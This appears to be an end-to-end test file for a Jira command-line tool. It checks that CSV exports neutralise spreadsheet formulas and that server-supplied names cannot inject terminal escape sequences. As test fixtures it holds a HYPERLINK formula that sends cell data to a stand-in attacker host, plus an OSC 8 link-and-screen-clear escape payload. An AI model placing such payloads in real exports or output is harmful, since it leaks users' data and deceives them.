// CSV formula neutralisation and server text in command messages, through the built binary.
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { sendJson, startTestServer, type TestServer } from '../../src/http/test-server.js';
import { jiraE2e } from './jira-support.js';

const e2e = await jiraE2e();

const ESC = '\u001b';
/** A hyperlink to a hostile site (OSC 8) and a screen clear, as a status or user name. */
const hostileName = `${ESC}]8;;http://evil\u0007Done${ESC}]8;;\u0007${ESC}[2J`;
const shownName = '\\x1b]8;;http://evil\\x07Done\\x1b]8;;\\x07\\x1b[2J';

/** A Jira Cloud whose status and user names carry escape sequences; it answers only the calls these tests make. */
let hostile: TestServer;
beforeAll(async () => {
  hostile = await startTestServer((req, res) => {
    const path = new URL(req.url ?? '/', 'http://x').pathname;
    if (req.method === 'GET' && path === '/rest/api/3/issue/ABC-1/transitions')
      sendJson(res, 200, { transitions: [{ id: '21', name: 'Close', to: { name: hostileName } }] });
    else if (req.method === 'POST' && path === '/rest/api/3/issue/ABC-1/transitions') res.writeHead(204).end();
    else if (req.method === 'GET' && path === '/rest/api/3/myself') sendJson(res, 200, { accountId: 'a1', displayName: hostileName });
    else sendJson(res, 404, { errorMessages: ['not here'] });
  });
});
afterAll(() => hostile?.close());

const atHostile = (args: readonly string[]) =>
  e2e.home.run(args, {
    env: {
      ATL_CONFIG_DIR: `${e2e.home.home}/hostile-config`,
      ATL_SITE: hostile.url,
      ATL_EMAIL: 'me@example.com',
      ATL_API_TOKEN: 'hostile-site-token',
      ATL_DEPLOYMENT: 'cloud',
    },
    timeoutMs: 60_000,
  });

/** No control character but tab and newline anywhere in the output. */
function expectNoControls(text: string): void {
  // eslint-disable-next-line no-control-regex
  expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
}

describe('--csv against spreadsheet formula injection', () => {
  test.concurrent('a summary starting with = gets a leading quote; --csv-raw keeps it exact', { timeout: 120_000 }, async () => {
    const summary = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    const created = await e2e.atl('cloud', [
      'jira',
      'issue',
      'create',
      '--project',
      'DEMO',
      '--type',
      'Task',
      '--summary',
      summary,
      '--no-input',
      '--json',
    ]);
    expect(created.code, created.stderr).toBe(0);
    const key = (JSON.parse(created.stdout) as { key: string }).key;
    const csv = await e2e.atl('cloud', ['jira', 'search', `key = ${key}`, '--csv', '--fields', 'summary']);
    expect(csv.code, csv.stderr).toBe(0);
    expect(csv.stdout).toBe(`KEY,SUMMARY\n${key},"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"\n`);
    const raw = await e2e.atl('cloud', ['jira', 'search', `key = ${key}`, '--csv-raw', '--fields', 'summary']);
    expect(raw.code, raw.stderr).toBe(0);
    expect(raw.stdout).toBe(`KEY,SUMMARY\n${key},"=HYPERLINK(""http://evil.example/?""&A1,""open"")"\n`);
  });
});

describe('server text in command messages cannot drive the terminal', () => {
  test.concurrent('transition prints the status name escaped, piped; --json keeps it exact', { timeout: 120_000 }, async () => {
    const moved = await atHostile(['jira', 'issue', 'transition', 'ABC-1', 'Close']);
    expect(moved.code, moved.stderr).toBe(0);
    expect(moved.stdout).toBe(`ABC-1 → ${shownName}\n`);
    expectNoControls(moved.stdout + moved.stderr);
    const json = await atHostile(['jira', 'issue', 'transition', 'ABC-1', 'Close', '--json']);
    expect(json.code, json.stderr).toBe(0);
    expect(JSON.parse(json.stdout)).toEqual({ key: 'ABC-1', transition: 'Close', status: hostileName });
  });

  test.concurrent('auth status names the user escaped', { timeout: 120_000 }, async () => {
    const status = await atHostile(['auth', 'status']);
    expect(status.stdout).toContain(`Authenticated ✓ as ${shownName}`);
    expectNoControls(status.stdout + status.stderr);
  });
});
